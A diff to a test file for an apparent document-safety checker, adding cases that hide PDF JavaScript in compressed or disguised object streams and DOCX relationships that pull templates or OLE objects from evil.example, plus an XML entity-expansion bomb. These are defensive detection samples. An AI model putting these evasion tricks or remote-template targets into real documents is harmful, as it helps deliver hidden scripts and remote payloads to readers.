@@ -4,6 +4,7 @@ import asyncio
 import resource
 import sys
 import time
+import zlib
 from pathlib import Path
 
 import pytest
@@ -74,8 +75,6 @@ def test_a_pdf_that_does_something_is_refused(tmp_path, inside):
 
 
 def test_a_script_in_packed_objects_of_a_pdf_is_found(tmp_path):
-    import zlib
-
     packed = zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
     hidden = (
         b">>\nendobj\n2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream\nendobj\n<<"
@@ -182,3 +181,74 @@ def test_a_picture_keeps_the_right_way_up():
 def test_a_file_that_was_cut_off_is_damaged(tmp_path, kind):
     assert judged(tmp_path, kind, GOOD[kind][:-10]) in {"damaged", "other"}
     assert judged(tmp_path, kind, GOOD[kind][: len(GOOD[kind]) // 2]) in {"damaged", "other"}
+
+
+SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+
+
+@pytest.mark.parametrize(
+    ("words", "packed", "said"),
+    [
+        (b"/Type /ObjStm", SCRIPT, "macros"),
+        (b"/Type /Obj#53tm /Filter /FlateDecode", zlib.compress(SCRIPT), "macros"),
+        (b"/Type /ObjStm" + b" " * 5000 + b"/Filter /FlateDecode", zlib.compress(SCRIPT), "macros"),
+        (b"/Type /ObjStm /Filter /ASCIIHexDecode", SCRIPT.hex().encode(), "damaged"),
+        (b"/Type /ObjStm /Filter [/A#38#35 /FlateDecode]", b"whatever", "damaged"),
+        (b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"<< /Type /Page >>"), "ok"),
+        (b"/Type /ObjStm /Filter /FlateDecode /Length 4", b"\x9a\x01\x02\x03", "ok"),  # locked, so nobody knows
+    ],
+)
+def test_a_script_in_objects_that_are_packed_otherwise_is_found(tmp_path, words, packed, said):
+    content = b">>\nendobj\n2 0 obj\n<< " + words + b" >>\nstream\n" + packed + b"\nendstream\nendobj\n<<"
+    assert judged(tmp_path, "pdf", samples.pdf(content)) == said
+
+
+def test_a_script_between_words_that_only_seem_a_stream_is_found(tmp_path):
+    content = b"/A (stream\n) >>\nendobj\n2 0 obj\n" + SCRIPT + b"\nendobj\n3 0 obj\n<< /B (endstream)"
+    assert judged(tmp_path, "pdf", samples.pdf(content)) == "macros"
+
+
+def rels(kind: str, target: str, mode: str = "External", encoding: str = "utf-8") -> bytes:
+    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    text = (
+        f'<?xml version="1.0" encoding="{encoding}"?><r:Relationships xmlns:r="http://schemas.openxmlformats.org/package">'
+        f'<r:Relationship Id="rId1" Type="{office}{kind}" Target="{target}" TargetMode="{mode}"/></r:Relationships>'
+    )
+    return text.encode(encoding)
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+@pytest.mark.parametrize(
+    ("kind", "target"),
+    [
+        ("attachedTemplate", "https://evil.example/t.dotm"),
+        ("attachedTemplate", "&#104;ttp://evil.example/t.dotm"),
+        ("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
+        ("attachedTemplate", "file://evil.example/share/t.dotm"),
+        ("attachedTemplate", "file:///\\\\evil.example\\share\\t.dotm"),
+        ("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x"),
+        ("oleObject", "html:https://evil.example/"),
+        ("frame", "https://evil.example/"),
+    ],
+)
+def test_a_paper_that_loads_parts_from_elsewhere_is_refused(tmp_path, kind, target, encoding):
+    for name in ("word/_rels/settings.xml.rels", "word/_rels/Document.xml.RELS"):
+        content = samples.docx(**{name: rels(kind, target, encoding=encoding)})
+        assert judged(tmp_path, "docx", content) == "fetches"
+
+
+def test_a_paper_may_link_to_pages_and_name_the_template_of_its_own_machine(tmp_path):
+    for kind, target in (
+        ("hyperlink", "https://songhau.example/"),
+        ("attachedTemplate", "file:///C:\\Users\\An\\Normal.dotm"),
+        ("attachedTemplate", "Normal.dotm"),
+        ("image", "media/image1.png"),
+    ):
+        content = samples.docx(**{"word/_rels/settings.xml.rels": rels(kind, target)})
+        assert judged(tmp_path, "docx", content) == "ok"
+
+
+def test_relations_that_cannot_be_read_are_refused(tmp_path):
+    bomb = b'<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>'
+    for content in (bomb, b"<r", b"\xff\xfe<"):
+        assert judged(tmp_path, "docx", samples.docx(**{"word/_rels/a.xml.rels": content})) == "damaged"
